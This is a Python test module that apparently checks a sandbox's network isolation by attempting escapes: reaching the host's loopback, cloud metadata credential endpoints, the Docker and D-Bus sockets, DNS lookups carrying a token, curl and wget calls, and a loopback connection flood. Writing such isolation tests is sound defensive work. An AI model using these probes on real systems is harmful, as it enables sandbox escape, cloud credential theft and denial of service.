"""Reaching anything by any kind of socket. The judge listens where these programs knock."""

import os
import socket
import subprocess
import threading
import time
import urllib.request

from support import pwned, run_named


def _knock(family, kind, address, data):
    try:
        with socket.socket(family, kind) as sock:
            sock.settimeout(1)
            sock.connect(address)
            sock.sendall(data)
            return True
    except OSError:
        return False


def connect_to_the_hosts_loopback(arena):
    """A service on 127.0.0.1 of the host."""
    for host, family in (("127.0.0.1", socket.AF_INET), ("::1", socket.AF_INET6)):
        if _knock(family, socket.SOCK_STREAM, (host, arena["tcp"]), arena["token"].encode()):
            pwned(f"tcp {host}")


def connect_to_the_hosts_addresses(arena):
    """The host by its own addresses."""
    for host in arena["addresses"]:
        if _knock(socket.AF_INET, socket.SOCK_STREAM, (host, arena["tcp"]), arena["token"].encode()):
            pwned(f"tcp {host}")


def send_datagrams(arena):
    """UDP needs no answer."""
    for host in ("127.0.0.1", *arena["addresses"], "255.255.255.255", "224.0.0.1"):
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
                sock.sendto(arena["token"].encode(), (host, arena["udp"]))
        except OSError:
            pass


def ask_the_metadata_service(arena):
    """What hands out a cloud machine's credentials."""
    for host in ("169.254.169.254", "100.100.100.200", "169.254.170.2"):
        if _knock(socket.AF_INET, socket.SOCK_STREAM, (host, 80), b"GET / HTTP/1.0\r\n\r\n"):
            pwned(f"metadata {host}")


def resolve_names(arena):
    """Names as a channel."""
    for name in ("example.com", f"{arena['token']}.example.com"):
        try:
            pwned(f"resolved {socket.getaddrinfo(name, 80)}")
        except OSError:
            pass
    for server in ("8.8.8.8", "1.1.1.1", "10.0.0.1"):
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
                sock.sendto(b"\0" * 12, (server, 53))
                pwned(f"sent to {server}")
        except OSError:
            pass


def connect_to_unix_sockets(arena):
    """Sockets that lie about: docker, D-Bus, an agent of ssh."""
    for path in (arena["unix"], "/var/run/docker.sock", "/run/dbus/system_bus_socket", "/run/systemd/private"):
        if _knock(socket.AF_UNIX, socket.SOCK_STREAM, path, arena["token"].encode()):
            pwned(f"unix {path}")


def connect_to_abstract_sockets(arena):
    """Sockets without a file."""
    if _knock(socket.AF_UNIX, socket.SOCK_STREAM, "\0" + arena["abstract"], arena["token"].encode()):
        pwned("abstract")
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as sock:
        try:
            sock.sendto(arena["token"].encode(), "\0" + arena["abstract"] + "-datagram")
            pwned("abstract datagram")
        except OSError:
            pass


def listen_for_the_host(arena):
    """A server in the sandbox that the outside could reach."""
    server = socket.create_server(("0.0.0.0", arena["free"]))
    server.settimeout(1)
    try:
        server.accept()
        pwned("somebody came in")
    except OSError:
        pass


def use_http_clients(arena):
    """urllib with a proxy of the caller's, curl, wget, pip."""
    os.environ["http_proxy"] = f"http://127.0.0.1:{arena['tcp']}"
    try:
        urllib.request.urlopen(f"http://{arena['token']}.example.com/", timeout=1)
        pwned("urllib")
    except OSError:
        pass
    for command in (["curl", "-sm1"], ["wget", "-qT1", "-t1"]):
        try:
            subprocess.run([*command, f"http://127.0.0.1:{arena['tcp']}/{arena['token']}"], timeout=3, check=True)
            pwned(command[0])
        except (OSError, subprocess.SubprocessError):
            pass


def look_at_the_hosts_network(arena):
    """Interfaces and connections of the host."""
    names = [name for _, name in socket.if_nameindex()]
    if [
        n
        for n in names
        if n not in ("lo", "tunl0", "sit0", "gre0", "ip6tnl0", "gretap0", "erspan0", "ip6_vti0", "ip_vti0", "ip6gre0")
    ]:
        pwned(f"interfaces {names}")
    with open("/proc/net/tcp") as file:
        if f":{arena['tcp']:04X} " in file.read():
            pwned("sees the host's connections")


def flood_connections(arena):
    """Its own loopback must not be a way to hurt the host."""
    server = socket.create_server(("127.0.0.1", 0), backlog=4096)
    end = time.monotonic() + 0.5

    def connect():
        held = []
        while time.monotonic() < end:
            try:
                held.append(socket.create_connection(server.getsockname(), timeout=0.2))
            except OSError:
                time.sleep(0.01)

    threads = [threading.Thread(target=connect) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


if __name__ == "__main__":
    run_named(globals())
